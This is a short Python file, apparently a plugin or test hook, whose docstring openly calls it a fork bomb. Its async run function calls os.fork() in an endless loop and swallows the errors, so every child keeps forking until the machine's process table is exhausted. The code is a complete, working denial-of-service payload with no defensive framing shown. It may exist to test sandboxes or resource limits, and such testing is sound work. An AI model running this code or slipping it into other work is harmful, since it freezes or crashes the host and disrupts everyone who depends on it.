"""A fork bomb: every process forks for ever, swallowing the errors."""

import os
import time


async def run(session, context, logger):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
